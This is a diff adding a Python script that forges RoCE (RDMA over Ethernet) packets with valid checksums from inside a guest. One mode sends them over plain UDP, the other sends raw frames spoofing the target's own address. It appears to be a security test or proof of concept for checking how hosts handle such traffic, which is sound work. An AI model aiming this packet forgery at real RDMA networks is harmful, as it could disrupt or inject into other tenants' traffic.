@@ -1,0 +1,61 @@
+#!/usr/bin/env python3
+# SPDX-License-Identifier: GPL-2.0
+"""RoCE packets, right to the last bit, from who should not send them; runs in a guest.
+
+usage: vforge.py datagrams TARGET          by an ordinary UDP socket: anybody may
+       vforge.py claims NETDEV MAC TARGET  frames that claim to come from TARGET itself
+"""
+
+import socket
+import struct
+import sys
+
+import vattack
+
+PACKETS = 16
+# A QP number that goes round to the first ones last, so there is none.
+QPN = 0xfffff0
+
+
+def datagrams(target):
+    """The IP header is the kernel's, and known: see vattack.py."""
+    family = socket.AF_INET6 if ":" in target else socket.AF_INET
+    with socket.socket(family, socket.SOCK_DGRAM) as sock:
+        with socket.socket(family, socket.SOCK_DGRAM) as probe:
+            probe.connect((target, vattack.PORT))
+            source = probe.getsockname()[0]
+        sock.bind((source, 0))
+        if family == socket.AF_INET:
+            sock.setsockopt(socket.IPPROTO_IP, 10, 2)  # IP_MTU_DISCOVER, IP_PMTUDISC_DO
+        ends = [socket.inet_pton(family, address) for address in (source, target)]
+        for psn in range(PACKETS):
+            transport = vattack.bth(0x04, QPN, psn) + bytes(16)
+            length = 8 + len(transport) + 4
+            if family == socket.AF_INET:
+                ip = struct.pack(">BBHHHBBH", 0x45, 0, 20 + length, 0, 0x4000, 64, 17, 0)
+            else:
+                ip = struct.pack(">IHBB", 6 << 28, length, 17, 64)
+            udp = struct.pack(">HHHH", sock.getsockname()[1], vattack.PORT, length, 0)
+            try:
+                sock.sendto(transport + vattack.icrc(ip + b"".join(ends), udp, transport),
+                            (target, vattack.PORT))
+            except PermissionError:
+                pass  # a firewall said so
+
+
+def claims(netdev, mac, target):
+    """Source and destination are the same."""
+    address = socket.inet_pton(socket.AF_INET6, target)
+    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as out:
+        out.bind((netdev, 0))
+        ether = bytes.fromhex(mac.replace(":", "")) + out.getsockname()[4] + b"\x86\xdd"
+        for psn in range(PACKETS):
+            transport = vattack.bth(0x04, QPN, psn) + bytes(16)
+            length = 8 + len(transport) + 4
+            ip = struct.pack(">IHBB", 6 << 28, length, 17, 64) + 2 * address
+            udp = struct.pack(">HHHH", 0xc000, vattack.PORT, length, 0)
+            out.send(ether + ip + udp + transport + vattack.icrc(ip, udp, transport))
+
+
+if __name__ == "__main__":
+    {"datagrams": datagrams, "claims": claims}[sys.argv[1]](*sys.argv[2:])
